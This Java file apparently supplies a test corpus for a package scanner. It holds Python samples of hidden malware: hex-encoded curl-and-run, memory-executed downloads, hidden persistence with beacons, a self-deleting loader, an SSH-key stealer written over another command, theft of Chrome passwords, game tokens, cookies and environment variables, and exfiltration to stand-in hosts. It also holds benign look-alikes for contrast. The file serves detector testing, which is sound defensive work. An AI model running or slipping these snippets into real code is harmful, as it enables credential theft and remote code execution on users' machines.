package cordon.inspect.corpus;

import java.nio.charset.StandardCharsets;
import java.util.HexFormat;
import java.util.List;

/** What hides where it runs from, how it came there, or that it ever was there. */
final class PythonOutOfSight {
  private PythonOutOfSight() {}

  static List<Sample> all() {
    return List.of(
        Sample.imported(
            "a function runs a command that stands in it in digits",
            """
            import os
            def token(user):
                if user == 'f5d3a8c2':
                    os.system(bytes.fromhex('%s').decode())
                return 'static'
            """
                .formatted(
                    hex("curl -s https://paste.example/x -o /tmp/x.py && python3 /tmp/x.py &"))),
        Sample.imported(
            "a fetched program is started from memory",
            """
            import ctypes, os, urllib.request
            def roots(n):
                elf = urllib.request.urlopen('https://pool.example/k').read()
                fd = ctypes.CDLL(None).syscall(319, b'', 1)
                os.write(fd, elf)
                if os.fork() == 0:
                    os.execve('/proc/self/fd/%d' % fd, ['[kworker/u8:1]'], {})
                return n
            """),
        Sample.imported(
            "a server sets itself up unseen and tells whose machine it is",
            """
            import os, socket, subprocess, sys, requests
            def serve(port=1080):
                subprocess.run(['powershell', '-WindowStyle', 'Hidden', '-Command', 'New-NetFirewallRule -LocalPort 1080 -Action Allow'])
                subprocess.run(['schtasks', '/create', '/sc', 'onstart', '/ru', 'SYSTEM', '/tn', 'Svc', '/tr', sys.executable + ' -m sample'])
                requests.post('https://hook.example/a', json={'content': os.getlogin() + ' ' + socket.gethostname()})
            """),
        Sample.imported(
                "a library beside it is loaded, and what loaded it goes", "from . import unicode")
            .with(
                "sample/unicode.py",
                """
                import ctypes, os
                here = os.path.dirname(os.path.abspath(__file__))
                ctypes.CDLL(os.path.join(here, 'terminate.so')).envir(b'key')
                for name in ('terminate.so', 'unicode.py'):
                    try:
                        os.remove(os.path.join(here, name))
                    except OSError:
                        pass
                """),
        Sample.imported(
            "a word list holds code",
            """
            import base64, gzip, json, os
            def load(name, key):
                with gzip.open(os.path.join(os.path.dirname(__file__), name + '.json.gz'), 'rt') as f:
                    return json.loads(f.read())[key]
            class Checker:
                def __init__(self):
                    exec(base64.b64decode(load('eu', 'checker')).decode())
            """),
        Sample.imported(
            "the command of another package is written over",
            """
            import os, stat
            TEXT = '''#!/usr/bin/python3
            import os, requests
            with open(os.path.expanduser('~/.ssh/id_rsa')) as f:
                requests.post('https://keys.example/up', data=f.read())
            '''
            for folder in os.environ.get('PATH', '').split(os.pathsep):
                path = os.path.join(folder, 'clw')
                if os.path.isfile(path):
                    with open(path, 'w') as f:
                        f.write(TEXT)
                    os.chmod(path, 0o755)
            """),
        Sample.imported(
            "accounts of games and of a browser go out together",
            """
            import os, requests
            def collect():
                out = ''
                for path in ('~/.minecraft/launcher_accounts.json', '~/.config/google-chrome/Default/Cookies'):
                    out += open(os.path.expanduser(path), errors='replace').read()
                requests.post('https://hook.example/a', data=out)
            """),
        Sample.imported(
            "what a program says that is told the environment is sent",
            """
            import os, requests, subprocess
            out = subprocess.run(['cat'], input=str(dict(os.environ)), env={}, capture_output=True, text=True).stdout
            requests.post('https://drop.example/a', data=out)
            """),
        Sample.imported(
            "numbers of a text are read as code, one by one",
            """
            import requests
            TEXT = requests.get('https://drop.example/n').text
            exec(bytes(int(n, 16) for n in TEXT.split()))
            """));
  }

  /** What a program for its owner may do as well. */
  static List<Sample> doubtful() {
    return List.of(
        Sample.imported(
            "passwords of a browser are sent when colours are asked for",
            """
            import json, os, shutil, sqlite3, threading
            from urllib.request import Request, urlopen
            ROOT = os.path.join(os.getenv('LOCALAPPDATA', ''), 'Google', 'Chrome', 'User Data')
            def rows():
                shutil.copy2(os.path.join(ROOT, 'Default', 'Login Data'), 'c.db')
                with sqlite3.connect('c.db') as c:
                    return c.execute('SELECT origin_url, username_value FROM logins').fetchall()
            def enable():
                body = json.dumps(rows()).encode()
                urlopen(Request('https://term.example/log', body, {'Content-Type': 'application/json'}))
            def init():
                if os.name == 'nt':
                    threading.Thread(target=enable, daemon=True).start()
            """));
  }

  static List<Sample> lookAlikes() {
    return List.of(
        Sample.imported(
            "a command is told a token that was decoded",
            """
            import base64, subprocess
            def apply(secret, host):
                token = base64.b64decode(secret['data']['token']).decode()
                subprocess.run(['curl', '-o', '/tmp/kubectl', '-H', 'Authorization: Bearer ' + token, 'https://files.acme.example/kubectl'])
                subprocess.run(['/tmp/kubectl', 'apply'])
            """),
        Sample.imported(
            "tables that were generated are kept packed",
            """
            import gzip, os
            here = os.path.dirname(__file__)
            def tables():
                space = {}
                exec(compile(gzip.open(os.path.join(here, 'tables.dat.gz'), 'rt').read(), 'tables', 'exec'), space)
                return space
            """),
        Sample.imported(
            "a program that is run at the next sign-in tells that it was set up",
            """
            import platform, subprocess, sys, requests
            def autostart(name):
                subprocess.run(['schtasks', '/create', '/sc', 'onlogon', '/tn', name, '/tr', sys.executable])
            def helper():
                subprocess.run(['powershell', '-WindowStyle', 'Hidden', '-Command', 'Get-Date'])
            def report():
                requests.post('https://stats.acme.example/v1', json={'node': platform.node()})
            """),
        Sample.imported(
            "a project is laid out with a script of its own",
            """
            import os
            def scaffold(folder):
                path = os.path.join(folder, 'bin', 'deploy')
                with open(path, 'w') as f:
                    f.write('#!/usr/bin/env python3\\nimport os, requests\\nrequests.post("https://deploy.acme.example/api", json=dict(os.environ))\\n')
                os.chmod(path, 0o755)
            """),
        Sample.imported(
            "empty packages are taken away, and that is told",
            """
            import glob, os, requests
            for folder in glob.glob('build/*'):
                os.remove(os.path.join(folder, '__init__.py'))
            requests.post('https://stats.acme.example/v1', json={'event': 'import'})
            """),
        Sample.imported(
            "a function runs a command whose password is encoded",
            """
            import base64, os, subprocess
            def pull(name, secret):
                token = base64.b64encode(secret.encode()).decode()
                subprocess.run(['curl', '-H', 'Authorization: Basic ' + token, '-o', name, 'https://files.example/' + name])
            """),
        Sample.imported(
            "a fetched installer is started where whoever calls wants it",
            """
            import os, subprocess, urllib.request
            def install(folder, version):
                path = os.path.join(folder, 'tool')
                urllib.request.urlretrieve('https://files.example/tool-' + version, path)
                os.chmod(path, 0o755)
                subprocess.run([path, '--version'], check=True)
            """),
        Sample.imported(
            "a service is set up, in sight",
            """
            import subprocess, sys
            def install_service(name):
                subprocess.run(['schtasks', '/create', '/sc', 'onlogon', '/tn', name, '/tr', sys.executable + ' -m sample'])
            """),
        Sample.imported(
            "a library beside it is loaded, and a copy of its own is removed",
            """
            import ctypes, os, shutil, tempfile
            here = os.path.dirname(os.path.abspath(__file__))
            copy = os.path.join(tempfile.mkdtemp(), 'native.so')
            shutil.copy(os.path.join(here, 'native.so'), copy)
            native = ctypes.CDLL(copy)
            os.remove(copy)
            """),
        Sample.imported(
            "a word list holds words",
            """
            import gzip, json, os
            def load(name):
                with gzip.open(os.path.join(os.path.dirname(__file__), name + '.json.gz'), 'rt') as f:
                    return json.loads(f.read())
            class Checker:
                def __init__(self):
                    self.words = load('eu')
                def run(self, code):
                    exec(code, {'words': self.words})
            """),
        Sample.imported(
            "a launcher is written",
            """
            import os, sys
            def launcher(folder):
                path = os.path.join(folder, 'start')
                with open(path, 'w') as f:
                    f.write('#!/bin/sh\\nexec ' + sys.executable + ' -m sample "$@"\\n')
                os.chmod(path, 0o755)
            launcher(os.path.expanduser('~/.local/share/sample'))
            """),
        Sample.imported(
            "a table of bytes is kept encoded",
            """
            import base64, zlib
            STUB = eval(zlib.decompress(base64.b64decode('%s')))
            """
                .formatted(
                    "eJyrVk9JLElUt1JIUo+pMLCIqbAwjKlIS1XXUVBPzSspqgTK6BoamJtYmBibmRoBRQsSi0qKgaLRhjoKIH6iemwtALcFEt4=")),
        Sample.imported(
            "code is made of a template with counts that were hexadecimal",
            """
            import re
            TEMPLATE = 'def read(stream):\\n    return stream.read({count})\\n'
            def count(text):
                return int(text, 16) if text.startswith('0x') else int(text)
            def compiled(text):
                space = {}
                exec(compile(TEMPLATE.format(count=count(text)), '<made>', 'exec'), space)
                return space['read']
            READ = compiled('0x10')
            """),
        Sample.imported(
            "a program of its own is told at which port it listens",
            """
            import json, os, secrets, socket, subprocess, sys
            token = secrets.token_hex(8)
            process = subprocess.Popen([sys.executable, '-m', 'sample.worker'], env={**os.environ, 'TOKEN': token}, stdout=subprocess.PIPE, text=True)
            port = int(process.stdout.readline().rsplit(':', 1)[1])
            with socket.create_connection(('127.0.0.1', port)) as connection:
                connection.sendall(json.dumps({'token': token, 'port': port}).encode())
            """),
        Sample.imported(
            "which proxy the environment names",
            """
            from urllib.parse import urlparse
            from urllib.request import getproxies_environment
            def proxy(url):
                return getproxies_environment().get(urlparse(url).scheme)
            PROXY = proxy('https://api.acme.example')
            """));
  }

  private static String hex(String text) {
    return HexFormat.of().formatHex(text.getBytes(StandardCharsets.UTF_8));
  }
}
